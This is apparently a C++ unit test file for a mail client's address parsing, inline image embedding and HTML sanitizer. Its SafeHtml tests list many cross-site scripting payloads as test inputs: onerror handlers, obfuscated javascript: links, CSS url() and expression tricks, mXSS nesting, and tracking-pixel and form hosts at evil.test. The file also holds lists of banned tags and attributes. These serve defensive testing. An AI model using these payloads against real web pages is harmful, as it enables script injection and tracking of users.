// The text helpers of the mail list and view, and the safe HTML of the mail view: each hostile
// construct is shown to leave nothing active behind, and ordinary mail markup to survive.
#include <gtest/gtest.h>
#include <gumbo.h>

#include <cstdint>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "../platform_testdir.h"
#include "browse/contact_calendar_browse.h"
#include "browse/mail_files.h"
#include "browse/mail_view.h"
#include "browse/safe_html.h"
#include "common/mailheader.h"
#include "plat_json.h"

namespace {

using Strings = std::vector<std::string>;
using qlm::Get_First_Header_Value;
using qlm::parseNameEmail;

TEST(MailText, RemoveOuterQuotes) {
    const std::pair<std::string, std::string> cases[] = {
        {"\"Doe, Jane\"", "Doe, Jane"}, {"\"", "\""}, {"\"\"", ""}, {"\"a", "\"a"},
        {"a\"", "a\""},                 {"\"\"x\"\"", "\"x\""}, {"", ""},
    };
    for (const auto& [in, out] : cases) EXPECT_EQ(qlm::removeOuterQuotes(in), out) << in;
}

TEST(MailText, ParseNameEmailAndFirstHeader) {
    struct Case {
        std::string header, name, email;
    } cases[] = {
        {"\"Doe, Jane\" <jane@x.test>", "\"Doe, Jane\"", "jane@x.test"},
        {"  Bob \t<bob@x.test>  ", "Bob", "bob@x.test"},
        {"<only@x.test>", "", "only@x.test"},
        {"plain@x.test", "plain@x.test", "plain@x.test"},
        {"a > b < c", "a > b < c", "a > b < c"},  // no ">" after the "<"
        {" \t ", "", ""},
    };
    for (const Case& c : cases) {
        std::string name = "old", email = "old";
        parseNameEmail(c.header, name, email);
        EXPECT_EQ(name, c.name) << c.header;
        EXPECT_EQ(email, c.email) << c.header;
    }
    RAIIful_Json dump(Json_From_String(
        R"({"headers": {"From": ["first", "second"], "To": [], "Date": "not a list", "X": [7]}})"));
    PT_JSON headers = nullptr;
    ASSERT_EQ(Json_Dict_Find_Dict(dump.get(), "headers", headers), 0);
    EXPECT_EQ(Get_First_Header_Value(headers, "From"), "first");
    for (const char* key : {"To", "Date", "X", "Subject"}) EXPECT_EQ(Get_First_Header_Value(headers, key), "") << key;
    EXPECT_EQ(Get_First_Header_Value(nullptr, "From"), "");
}

TEST(MailText, ExtractImgAltTexts) {
    const std::pair<std::string, Strings> cases[] = {
        {R"(<img alt="a.png" src="x"><img src='y' alt='b c.gif'>)", {"a.png", "b c.gif"}},
        {R"(<img alt="d"><IMG alt="e"><img alt="d">)", {"d", "d"}},  // "<img" is case-sensitive, duplicates kept
        {R"(<img alt=bare src="x"><img alt="after">)", {"after"}},   // an unquoted value is skipped
        {R"(<img src="x"><p title="t" alt="next">)", {"next"}},      // the search runs past the tag
        {R"(<img alt="open)", {}},
        {"no images", {}},
    };
    for (const auto& [html, alts] : cases) EXPECT_EQ(qlm::extractImgAltTexts(html), alts) << html;
}

TEST(MailText, ReplaceImgSrcByAlt) {
    const std::string uri = "data:image/jpeg;base64,QUJD";
    const std::pair<std::string, std::string> cases[] = {
        {R"(<img alt="a" src="cid:1"> <img src='cid:2' alt='a'>)",
         R"(<img alt="a" src=")" + uri + R"("> <img src=')" + uri + R"(' alt='a'>)"},
        {R"(<img alt="b" src="cid:1">)", R"(<img alt="b" src="cid:1">)"},  // another alt
        {R"(<img alt="a" src=cid:1>)", R"(<img alt="a" src=cid:1>)"},      // no quoted src
        {R"(<img alt="ab" src="x">)", R"(<img alt="ab" src="x">)"},        // exact match only
        {R"(<img alt="a" src="x")", R"(<img alt="a" src="x")"},            // no end of tag
    };
    for (const auto& [in, out] : cases) {
        std::string html = in;
        qlm::replaceImgSrcByAlt(html, "a", "QUJD");
        EXPECT_EQ(html, out) << in;
    }
}

// The image data written into one view stops at its budget: the tags past it keep their source
// (and so show their alt text), smaller images after them still fit, and the rest is untouched.
TEST(MailText, EmbeddingStopsAtItsBudget) {
    const Base64_Parts images{{"big", std::make_shared<const std::string>("QUJDREVG")},
                                   {"small", std::make_shared<const std::string>("QQ==")}};
    const std::string big = "data:image/jpeg;base64,QUJDREVG", small = "data:image/jpeg;base64,QQ==";
    const std::string html = R"(<img alt="big" src="1"><img alt="big" src="2"><img alt="small" src="3">)"
                             R"(<img alt="none" src="4"><img alt="big" src="5">)";
    const std::pair<size_t, std::string> cases[] = {
        {SIZE_MAX, R"(<img alt="big" src=")" + big + R"("><img alt="big" src=")" + big + R"("><img alt="small" src=")" +
                       small + R"("><img alt="none" src="4"><img alt="big" src=")" + big + R"(">)"},
        {big.size() + small.size(), R"(<img alt="big" src=")" + big + R"("><img alt="big" src="2"><img alt="small" src=")" +
                                        small + R"("><img alt="none" src="4"><img alt="big" src="5">)"},
        {big.size() - 1, R"(<img alt="big" src="1"><img alt="big" src="2"><img alt="small" src=")" + small +
                             R"("><img alt="none" src="4"><img alt="big" src="5">)"},
        {0, html},
    };
    for (const auto& [budget, out] : cases) EXPECT_EQ(qlm::Embed_Images_By_Alt(html, images, budget), out) << budget;
}

// The mail that once grew to gigabytes: one image named by thousands of tags. The view holds at
// most twice the mail's size of image data, and the tags past that show their alt text.
TEST(MailView, OneImageNamedByThousandsOfTagsStaysWithinTwiceTheMail) {
    plattest::TempDir dir;
    const std::string eml = dir / "mail";
    const std::string data(200000, 'A');
    std::string html;
    for (int i = 0; i < 4000; ++i) html += "<img alt=\"a.png\" src=\"cid:a\">";
    std::ofstream(eml) << "Content-Type: multipart/related; boundary=\"B\"\r\n\r\n--B\r\nContent-Type: text/html\r\n\r\n"
                       << html << "\r\n--B\r\nContent-Type: image/png; name=\"a.png\"\r\n"
                       << "Content-Transfer-Encoding: base64\r\n\r\n" << data << "\r\n--B--\r\n";
    const int64_t mailSize = qlm::getFileSize(eml);
    const std::string out = qlm::Mail_View_Html(html, eml);
    size_t embedded = 0;
    for (size_t at = out.find(data); at != std::string::npos; at = out.find(data, at + data.size())) ++embedded;
    EXPECT_EQ(embedded, static_cast<size_t>(2 * mailSize) / (data.size() + 23));
    EXPECT_LE(out.size(), html.size() + 2 * static_cast<size_t>(mailSize));
    EXPECT_NE(out.find("<img alt=\"a.png\"><img"), std::string::npos);  // past the budget: the alt text
}

TEST(MailText, MemberAmountIsDecimalOnly) {
    const std::pair<const char*, int> cases[] = {
        {"12", 12}, {"0", 0}, {"", 0}, {nullptr, 0}, {"12x", 0}, {"-3", 0}, {" 4", 0}, {"99999999999999", 0},
    };
    for (const auto& [in, out] : cases) EXPECT_EQ(qlm::Member_Amount(in), out) << (in ? in : "NULL");
}

TEST(SafeHtml, Base64Alphabet) {
    EXPECT_TRUE(qlm::Is_Base64_Text("iVBORw0KGgo+/=="));
    for (const char* bad : {"", "QUJD\"", "QU JD", "QUJD\n", "QUJD<", "QU%4A"}) EXPECT_FALSE(qlm::Is_Base64_Text(bad)) << bad;
}

std::string Lower(std::string s) {
    for (char& c : s) c = static_cast<char>(tolower(static_cast<unsigned char>(c)));
    return s;
}

bool Starts_With(const std::string& s, const char* prefix) { return s.rfind(prefix, 0) == 0; }

// The output read back by the HTML5 parser, as a browser would: no element or attribute that
// runs, loads or names anything of the admin page may be there.
void Expect_Inert_Node(const GumboNode* node, const std::string& input) {
    if (node->type != GUMBO_NODE_ELEMENT && node->type != GUMBO_NODE_DOCUMENT) {
        EXPECT_NE(node->type, GUMBO_NODE_COMMENT) << input;
        EXPECT_NE(node->type, GUMBO_NODE_TEMPLATE) << input;
        return;
    }
    const GumboVector* children = &node->v.document.children;
    if (node->type == GUMBO_NODE_ELEMENT) {
        const GumboElement& el = node->v.element;
        children = &el.children;
        const std::string tag = gumbo_normalized_tagname(el.tag);
        for (const char* banned : {"script", "style", "iframe", "frame", "object", "embed", "applet", "form", "input",
                                   "button", "textarea", "base", "link", "meta", "svg", "math", "video", "audio",
                                   "source", "noscript", "template"})
            EXPECT_NE(tag, banned) << input;
        EXPECT_EQ(el.tag_namespace, GUMBO_NAMESPACE_HTML) << input;
        for (unsigned i = 0; i < el.attributes.length; ++i) {
            const auto* attr = static_cast<const GumboAttribute*>(el.attributes.data[i]);
            const std::string name = Lower(attr->name), value = Lower(attr->value);
            EXPECT_FALSE(Starts_With(name, "on")) << name << " from " << input;
            for (const char* banned : {"srcset", "background", "id", "class", "name", "action", "poster", "data"})
                EXPECT_NE(name, banned) << input;
            if (name == "href") {
                EXPECT_TRUE(Starts_With(value, "https:") || Starts_With(value, "http:") || Starts_With(value, "mailto:"))
                    << value << " from " << input;
            }
            if (name == "src") {
                EXPECT_TRUE(Starts_With(value, "data:image/")) << value << " from " << input;
            }
            if (name == "style") {
                for (const char* banned : {"url(", "expression", "@import", "binding", "behavior", "\\"})
                    EXPECT_EQ(value.find(banned), std::string::npos) << value << " from " << input;
            }
        }
    }
    for (unsigned i = 0; i < children->length; ++i)
        Expect_Inert_Node(static_cast<const GumboNode*>(children->data[i]), input);
}

void Expect_Inert(const std::string& out, const std::string& input) {
    GumboOutput* parsed = gumbo_parse(out.c_str());
    Expect_Inert_Node(parsed->document, input);
    gumbo_destroy_output(&kGumboDefaultOptions, parsed);
    // Nothing but the mail's own images is loaded: no absolute or protocol-relative address in a source.
    EXPECT_EQ(out.find("src=\"http"), std::string::npos) << input;
}

TEST(SafeHtml, HostileConstructsLeaveNothingActive) {
    const std::string hostile[] = {
        "<script>alert(1)</script><p>x</p>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.test/track.gif\" alt=\"pixel\">",
        "<img src=\"cid:part1\" alt=\"logo\">",
        "<img srcset=\"https://evil.test/a 1x\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\" &#14;javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"/webman/orvenna.cgi?act=delete\">x</a>",
        "<iframe src=\"https://evil.test\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<form action=\"https://evil.test\"><input name=p><button>go</button></form>",
        "<base href=\"https://evil.test/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
        "<link rel=stylesheet href=\"https://evil.test/x.css\">",
        "<style>@import url(https://evil.test/x.css); body{background:url(x)}</style>",
        "<div style=\"background:url(https://evil.test/x)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"background:u\\72l(https://evil.test/x)\">x</div>",
        "<div style=\"color:red;background-image:URL('x');\">x</div>",
        "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#y)\">x</div>",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<table background=\"https://evil.test/bg.png\"><tr><td>x</td></tr></table>",
        "<body onload=alert(1)><p>x</p></body>",
        "<video poster=\"https://evil.test/p.png\"><source src=\"x.mp4\"></video>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<p id=\"csrf-token\" class=\"admin-button\" name=\"x\">clobber</p>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<img src=\"data:image/png;base64,QUJD\"onerror=\"alert(1)\">",
        "<x-custom onclick=alert(1)>text</x-custom>",
        "<img src=\"data:image/jpeg;base64,QU\"JD\">",
    };
    for (const std::string& in : hostile) Expect_Inert(qlm::Safe_Mail_Html(in), in);
}

TEST(SafeHtml, OrdinaryMailMarkupSurvives) {
    const std::pair<std::string, std::string> cases[] = {
        {"<p>Hello <b>World</b> &amp; you</p>", "<p>Hello <b>World</b> &amp; you</p>"},
        {"<html><head><title>t</title></head><body><div align=\"center\">x</div></body></html>",
         "<div align=\"center\">x</div>"},
        {"<a href=\"https://example.test/a?b=1&amp;c=2\">link</a>",
         "<a href=\"https://example.test/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer\">link</a>"},
        {"<a href=\"mailto:a@example.test\">m</a>",
         "<a href=\"mailto:a@example.test\" target=\"_blank\" rel=\"noopener noreferrer\">m</a>"},
        {"<img alt=\"logo\" src=\"data:image/jpeg;base64,QUJD\" width=\"10\">",
         "<img alt=\"logo\" src=\"data:image/jpeg;base64,QUJD\" width=\"10\">"},
        {"<img alt=\"pixel\" src=\"https://evil.test/t.gif\">", "<img alt=\"pixel\">"},
        {"<span style=\"color:red; font-weight:bold\">r</span>", "<span style=\"color:red; font-weight:bold\">r</span>"},
        {"<span style=\"color:red;background:url(x);font-size:2px\">r</span>",
         "<span style=\"color:red;font-size:2px\">r</span>"},
        {"<table border=\"1\"><tr><td colspan=\"2\">c</td></tr></table>",
         "<table border=\"1\"><tbody><tr><td colspan=\"2\">c</td></tr></tbody></table>"},
        {"<o:p>Outlook</o:p><br><hr>", "Outlook<br><hr>"},
        {"<p>1 &lt; 2 &gt; 0 \"q\"</p>", "<p>1 &lt; 2 &gt; 0 \"q\"</p>"},
        {"", ""},
    };
    for (const auto& [in, out] : cases) EXPECT_EQ(qlm::Safe_Mail_Html(in), out) << in;
}

// A mail must not lay anything over the page that shows it: positioning and stacking go, in any
// spelling a browser accepts, and the rest of the style stays.
TEST(SafeHtml, PositionAndStackingDeclarationsAreDropped) {
    const std::pair<std::string, std::string> cases[] = {
        {"<a href=\"https://x.test\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999\">x</a>",
         "<a href=\"https://x.test\" style=\"top:0;left:0;width:100%;height:100%\" target=\"_blank\" "
         "rel=\"noopener noreferrer\">x</a>"},
        {"<div style=\"POSITION : Absolute; color:red\">x</div>", "<div style=\" color:red\">x</div>"},
        {"<div style=\"color:red;\n\tposition:sticky !important\">x</div>", "<div style=\"color:red\">x</div>"},
        {"<div style=\"Z-Index:2147483647\">x</div>", "<div>x</div>"},
        {"<div style=\"posi&#116;ion:fixed;color:red\">x</div>", "<div style=\"color:red\">x</div>"},
        {"<div style=\"position/**/:fixed\">x</div>", "<div>x</div>"},
        // Properties that merely contain the words stay.
        {"<div style=\"background-position:0 0;list-style-position:inside\">x</div>",
         "<div style=\"background-position:0 0;list-style-position:inside\">x</div>"},
    };
    for (const auto& [in, out] : cases) EXPECT_EQ(qlm::Safe_Mail_Html(in), out) << in;
}

TEST(SafeHtml, DeepNestingDoesNotExhaustTheStack) {
    std::string deep;
    for (int i = 0; i < 200000; ++i) deep += "<span>";
    deep += "x";
    const std::string out = qlm::Safe_Mail_Html(deep);
    EXPECT_NE(out.find('x'), std::string::npos);
}

TEST(MailView, InlineImagesComeFromTheMailAndOnlyAsBase64) {
    plattest::TempDir dir;
    const std::string eml = dir / "mail";
    std::ofstream(eml) << "Content-Type: multipart/related; boundary=\"B\"\r\n\r\n"
                          "--B\r\nContent-Type: text/html\r\n\r\n<p>body</p>\r\n"
                          "--B\r\nContent-Type: image/png; name=\"logo.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                          "iVBORw0K\r\nGgo=\r\n"
                          "--B\r\nContent-Type: image/png; name=\"evil.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                          "QUJD\" onerror=\"alert(1)\r\n"
                          "--B--\r\n";
    const std::string html = "<p><img alt=\"logo.png\" src=\"cid:1\"><img alt=\"logo.png\" src=\"cid:2\">"
                             "<img alt=\"evil.png\" src=\"cid:3\"><img alt=\"none.png\" src=\"https://evil.test/x\"></p>";
    const std::string out = qlm::Mail_View_Html(html, eml);
    const std::string logo = "<img alt=\"logo.png\" src=\"data:image/jpeg;base64,iVBORw0KGgo=\">";
    EXPECT_EQ(out, "<p>" + logo + logo + "<img alt=\"evil.png\"><img alt=\"none.png\"></p>");
    EXPECT_EQ(qlm::Mail_View_Html("", eml), qlm::kNoBodyHtml);
}

}  // namespace
